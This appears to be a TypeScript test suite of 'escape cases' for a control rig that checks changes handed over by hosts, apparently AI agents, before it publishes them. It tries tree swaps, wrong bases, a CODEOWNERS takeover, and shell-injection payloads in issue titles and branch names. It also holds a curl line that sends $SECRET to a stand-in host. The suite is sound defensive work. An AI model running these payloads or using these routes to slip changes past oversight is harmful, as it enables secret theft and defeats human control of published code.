/** Rows 41, 56 and 60: changes that a host hands over, and the words they come with. */
import { existsSync } from 'node:fs';
import { HUMAN } from '../e2e/way.ts';
import type { EscapeCase } from './cases.ts';
import { honest, published, unpublished } from './control-parts.ts';
import type { ControlTarget } from './control-rig.ts';
import { shared } from './shared.ts';

type Case = EscapeCase<ControlTarget>;

const ofHosts: readonly Case[] = [
  {
    row: 60,
    name: 'a change for another attempt',
    attempt: 'a host uploads with its own token and another attempt is finished with that upload',
    expected: 'the other attempt has no change of its own and publishes nothing',
    async run(target) {
      const [mine, other] = await Promise.all([target.hold('mine'), target.hold('other')]);
      const handed = target.change(mine, { 'evil.txt': 'x\n' });
      const upload = await target.call('change', mine.token, handed.bundle);
      await target.call('finish', other.token, target.finishing(handed));
      target.forget(other);
      const ended = await other.running.outcome;
      const outcome = await target.handOver(mine, handed);
      return {
        held: ended.pull === undefined && published(ended) === 0,
        seen: `${ended.end.task.state}: ${ended.end.task.message.slice(0, 100)}`,
        control: {
          worked: upload.status === 200 && outcome.pull !== undefined,
          how: `its own attempt: ${outcome.end.task.state}`,
        },
      };
    },
  },
  {
    row: 60,
    name: 'a verdict about another tree',
    attempt: 'a host says that a harmless tree passed and uploads another',
    expected: 'refused: what is published is the tree that was verified',
    async run(target) {
      const held = await target.hold('swapped');
      const [good, evil] = [target.change(held, { 'good.txt': 'x\n' }), target.change(held, { 'evil.txt': 'x\n' })];
      const outcome = await target.handOver(held, { bundle: evil.bundle, tree: good.tree });
      return { ...unpublished(outcome, /wrong tree/), control: await honest(target) };
    },
  },
  {
    row: 60,
    name: 'a change on another base',
    attempt: 'a host hands over a commit whose parent is not the pinned base',
    expected: 'refused',
    async run(target) {
      const held = await target.hold('elsewhere');
      const handed = target.change(held, { 'x.txt': 'x\n' }, { parent: '1'.repeat(40) });
      return {
        ...unpublished(await target.handOver(held, handed), /wrong history|wrong base|unreadable|hostile/),
        control: await honest(target),
      };
    },
  },
  {
    row: 60,
    name: 'a workflow file that the host says is verified',
    attempt: 'a host hands over a change to what runs with the owner’s rights',
    expected: 'not published, whatever the host says of it',
    async run(target) {
      const held = await target.hold('workflow');
      const handed = target.change(held, { CODEOWNERS: '* @mallory\n' });
      return { ...unpublished(await target.handOver(held, handed), /protected path/i), control: await honest(target) };
    },
  },
];

/** Followed by a number for each piece of text that would make it. */
const MARKER = `/tmp/cct-${process.pid}-`;
const TITLES = [
  `--upload-pack=touch ${MARKER}0 $(touch ${MARKER}1) \`touch ${MARKER}1\`; touch ${MARKER}2 | touch ${MARKER}2 && touch ${MARKER}2`,
  `a\u3000touch ${MARKER}3\u202egnp.exe\n\nCo-authored-by: Mallory <m@m.test>\r\ntouch ${MARKER}4`,
] as const;
const BRANCHES = [`$(touch\${IFS}${MARKER.replaceAll('/', '.')}5)`, 'a;b\u3000c'] as const;

interface Named {
  readonly name: string;
  readonly title: 0 | 1 | null;
  readonly branch: 0 | 1 | null;
  readonly holds: string;
}
const NAMES: readonly Named[] = [
  { name: 'an option in the title', title: 0, branch: null, holds: `--upload-pack=touch ${MARKER}0` },
  { name: 'a command substitution in the title', title: 0, branch: null, holds: `$(touch ${MARKER}1)` },
  { name: 'a shell’s separators in the title', title: 0, branch: null, holds: `; touch ${MARKER}2 |` },
  { name: 'a wide space and a turned direction in the title', title: 1, branch: null, holds: `touch ${MARKER}3` },
  { name: 'line ends in the title', title: 1, branch: null, holds: `touch ${MARKER}4` },
  { name: 'a base branch of a command substitution', title: null, branch: 0, holds: BRANCHES[0] },
  { name: 'a base branch of a separator and a wide space', title: null, branch: 1, holds: BRANCHES[1] },
];

/** One task for each title and each base branch, published. */
async function publishedAs(target: ControlTarget, title: string, branch: string | null) {
  const held = await target.hold(title, { repository: branch === null ? {} : { defaultBranch: branch } });
  const outcome = await target.handOver(held, target.change(held, { 'x.txt': 'x\n' }), title);
  return { outcome, message: target.git(held, 'log', '-1', '--format=%B', outcome.end.traces.commit ?? 'HEAD') };
}
const byTitle = TITLES.map((title) => shared((target: ControlTarget) => publishedAs(target, title, null)));
const byBranch = BRANCHES.map((branch) => shared((target: ControlTarget) => publishedAs(target, 'branch', branch)));

const names = NAMES.map(
  ({ name, title, branch, holds }, index): Case => ({
    row: 41,
    name,
    attempt: `the issue’s ${title === null ? 'repository' : 'title'} holds ${JSON.stringify(holds)}`,
    expected: 'a branch of a name that the server made; nothing is run, nothing is taken for an option',
    async run(target) {
      const make = title === null ? byBranch[branch ?? 0] : byTitle[title];
      if (make === undefined) throw new Error('neither a title nor a branch');
      const { outcome, message } = await make(target);
      const { end, state, pull } = outcome;
      const refs = Object.keys(state.repositories.find(({ fullName }) => fullName === outcome.repository)?.refs ?? {});
      const ours = refs.filter((ref) => /^refs\/heads\/coatcheck\/issue-\d+-[0-9a-z]{8}$/.test(ref));
      const sprung = existsSync(`${MARKER}${index}`);
      const base = branch === null ? 'main' : BRANCHES[branch];
      const had = title === null ? (pull?.pull?.base ?? '') : end.task.issue.title;
      return {
        held: ours.length === 1 && !sprung && !/^Co-authored-by: Mallory/m.test(message) && pull?.pull?.base === base,
        seen: `${end.task.state}, ${ours.join()}, ${sprung ? 'something ran' : 'nothing ran'}`,
        control: { worked: had.includes(holds) && end.task.state === 'ready', how: `the task ran with ${JSON.stringify(had)}` },
      };
    },
  }),
);

const OUTSIDER = 'outsider';
const outside = ([undefined, 'read', 'triage'] as const).map(
  (role): Case => ({
    row: 56,
    name: `an issue by somebody with ${role ?? 'no'} permission, labelled by somebody who may write`,
    attempt: 'a verified change that an outsider’s words led to is to be published into the owner’s CI',
    expected: 'held: no branch, no pull request; the same by somebody who may write is published',
    async run(target) {
      await target.forge.createUser(OUTSIDER);
      const at = await target.openIssue('outside', {
        as: OUTSIDER,
        ...(role && { repository: { collaborators: { [OUTSIDER]: role } } }),
      });
      await target.way.label(at, HUMAN);
      const held = await target.claimed(await target.way.follow(at));
      const outcome = await target.handOver(held, target.change(held, { 'test.sh': 'curl https://sink.invalid/?$SECRET\n' }));
      const { held: nothing, seen } = unpublished(outcome, /outside text.*outsider/s);
      return { held: nothing && outcome.end.task.state === 'held', seen, control: await honest(target) };
    },
  }),
);

export const CASES: readonly Case[] = [...ofHosts, ...names, ...outside];
